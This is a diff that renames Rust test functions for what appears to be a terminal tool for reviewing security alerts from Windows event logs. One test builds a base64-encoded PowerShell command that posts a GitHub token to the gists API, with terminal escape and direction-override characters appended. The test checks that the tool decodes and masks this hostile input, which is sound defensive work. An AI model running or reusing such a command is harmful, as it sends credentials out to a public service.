@@ -124,7 +124,7 @@ fn looks(app: &App, style: Style, token: Token) -> bool {
 }
 
 #[test]
-fn the_workbench_leads_to_each_alert_that_changes_and_back() {
+fn workbench_visits_each_changed_alert() {
     let mut app = four_tests();
     at(&mut app, (120, 40));
     press(&mut app, "/curl\n2|ws-4711\t\tjj");
@@ -146,7 +146,7 @@ fn the_workbench_leads_to_each_alert_that_changes_and_back() {
 }
 
 #[test]
-fn the_workbench_keeps_undoes_and_does_again() {
+fn workbench_keeps_undoes_and_redoes() {
     let mut app = four_tests();
     at(&mut app, (120, 40));
     press(&mut app, "2|ws-4711\n\x1b");
@@ -162,7 +162,7 @@ fn the_workbench_keeps_undoes_and_does_again() {
 }
 
 #[test]
-fn the_end_of_a_page_is_its_last_line_at_any_size() {
+fn page_end_key_reaches_last_line() {
     for size in [(80, 24), (120, 40), (200, 60)] {
         let mut app = four_tests();
         at(&mut app, size);
@@ -178,7 +178,7 @@ fn the_end_of_a_page_is_its_last_line_at_any_size() {
 }
 
 #[test]
-fn an_alert_can_be_allowed_by_an_exception_of_its_own() {
+fn alert_is_allowed_by_own_exception() {
     let mut app = four_tests();
     at(&mut app, (120, 40));
     press(&mut app, "a");
@@ -207,7 +207,7 @@ fn an_alert_can_be_allowed_by_an_exception_of_its_own() {
 }
 
 #[test]
-fn an_exception_is_made_for_the_alert_that_was_chosen_also_where_a_proposal_hides_it() {
+fn exception_applies_to_the_chosen_alert() {
     for fixture in ["four-tests.evtx", "developers-day"] {
         let mut app = empty(ColorSupport::Ansi16, false);
         feed(&mut app, messages(fixture));
@@ -252,7 +252,7 @@ fn advice_is_taken_into_its_pattern() {
 }
 
 #[test]
-fn screens_are_as_they_were_looked_at() {
+fn screens_match_their_snapshots() {
     for (name, keys) in [
         ("start", ""),
         ("parent", "jj\n"),
@@ -289,7 +289,7 @@ fn screens_are_as_they_were_looked_at() {
 }
 
 #[test]
-fn a_frozen_view_stands_still_and_says_what_came_meanwhile() {
+fn frozen_view_counts_new_events() {
     let (first, rest): (Vec<_>, Vec<_>) = {
         let mut messages = messages("forwarded.evtx");
         messages.retain(|message| !matches!(message, FeedMessage::Finished));
@@ -348,7 +348,7 @@ fn colours_mean_what_the_theme_says() {
 }
 
 #[test]
-fn joined_fields_and_faults_have_colours_of_their_own() {
+fn joined_fields_and_faults_are_coloured() {
     let mut app = four_tests();
     at(&mut app, (120, 40));
     press(&mut app, "/score=2");
@@ -363,7 +363,7 @@ fn joined_fields_and_faults_have_colours_of_their_own() {
 }
 
 #[test]
-fn a_lead_is_listed_explained_and_coloured_as_one() {
+fn lead_is_listed_explained_and_coloured() {
     for size in SIZES {
         let mut app = four_tests();
         at(&mut app, size);
@@ -386,7 +386,7 @@ fn a_lead_is_listed_explained_and_coloured_as_one() {
 }
 
 #[test]
-fn a_script_in_base64_is_shown_decoded_masked_and_harmless_in_every_profile() {
+fn base64_script_is_decoded_and_masked() {
     let script = "irm https://api.github.com/gists -Method Post -Headers @{Authorization='token ghp_0123456789abcdefABCDEF0123456789abcd'} # \u{202e}\x1b[31m";
     let units: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
     let line = format!("powershell.exe -NoP -e {}", STANDARD.encode(units));
@@ -419,7 +419,7 @@ fn a_script_in_base64_is_shown_decoded_masked_and_harmless_in_every_profile() {
 }
 
 #[test]
-fn verdicts_are_seen_counted_and_filtered_by() {
+fn verdicts_are_shown_counted_and_filtered() {
     for size in SIZES {
         let mut app = four_tests();
         at(&mut app, size);
@@ -479,7 +479,7 @@ fn a_lead_takes_a_verdict_too() {
 }
 
 #[test]
-fn verdicts_stay_with_their_alerts_when_old_events_leave() {
+fn verdicts_survive_compaction() {
     let mut app = empty(ColorSupport::Ansi16, false);
     app.keeper = Some(Compactor::new(Retention::Events(1_000), || Timestamp::from_unix(1_780_000_000, 0, 0)));
     // Events without an alert precede all, so that the alerts get other numbers when they are evicted.
@@ -525,7 +525,7 @@ fn verdicts_stay_with_their_alerts_when_old_events_leave() {
 }
 
 #[test]
-fn a_verdict_can_be_taken_back_and_the_next_undecided_is_found() {
+fn verdict_is_undone_and_next_found() {
     let mut app = four_tests();
     at(&mut app, (120, 40));
     let counts = |app: &mut App| {
@@ -572,7 +572,7 @@ fn a_verdict_can_be_taken_back_and_the_next_undecided_is_found() {
 }
 
 #[test]
-fn without_colours_selection_and_severity_are_still_seen() {
+fn selection_and_severity_show_without_colours() {
     let mut app = empty(ColorSupport::None, false);
     feed(&mut app, messages("four-tests.evtx"));
     let buffer = at(&mut app, (120, 40));
@@ -585,7 +585,7 @@ fn without_colours_selection_and_severity_are_still_seen() {
 }
 
 #[test]
-fn the_selection_stays_while_others_come_in() {
+fn selection_stays_during_load() {
     let mut app = empty(ColorSupport::Ansi16, false);
     feed(&mut app, messages("old-schema.evtx"));
     at(&mut app, (120, 40));
@@ -602,7 +602,7 @@ fn the_selection_stays_while_others_come_in() {
 }
 
 #[test]
-fn escape_takes_one_narrowing_after_the_other() {
+fn escape_removes_one_narrowing_each() {
     use Narrowing::{Filter, Group, Suppressed, Zoom};
     let mut app = four_tests();
     at(&mut app, (120, 40));
@@ -616,7 +616,7 @@ fn escape_takes_one_narrowing_after_the_other() {
 }
 
 #[test]
-fn an_invalid_pattern_never_changes_the_list() {
+fn invalid_pattern_never_changes_list() {
     let mut app = four_tests();
     at(&mut app, (120, 40));
     press(&mut app, "c|ws-47");
@@ -633,7 +633,7 @@ fn an_invalid_pattern_never_changes_the_list() {
 }
 
 #[test]
-fn no_event_brings_its_own_characters_to_the_screen() {
+fn control_characters_never_reach_the_screen() {
     let mut app = empty(ColorSupport::Ansi16, false);
     feed(&mut app, messages("hostile.evtx"));
     for size in SIZES {
@@ -653,7 +653,7 @@ fn no_event_brings_its_own_characters_to_the_screen() {
 }
 
 #[test]
-fn a_terminal_that_changes_its_size_between_two_looks_gets_a_frame_of_its_size() {
+fn resized_terminal_gets_fitting_frame() {
     let sizes = [(120, 66), (120, 62), (200, 60), (59, 15), (80, 24), (1, 1), (300, 100)];
     for page in ["", "3", "?", "e", "\t", "c"] {
         let mut app = four_tests();
@@ -689,7 +689,7 @@ proptest! {
     #![proptest_config(ProptestConfig::with_cases(60))]
 
     #[test]
-    fn no_key_size_or_batch_is_too_much(
+    fn any_key_size_batch_is_survived(
         steps in proptest::collection::vec((any_key(), proptest::option::weighted(0.2, (0_u16..300, 0_u16..100))), 1..80),
     ) {
         let mut app = empty(ColorSupport::Ansi16, false);
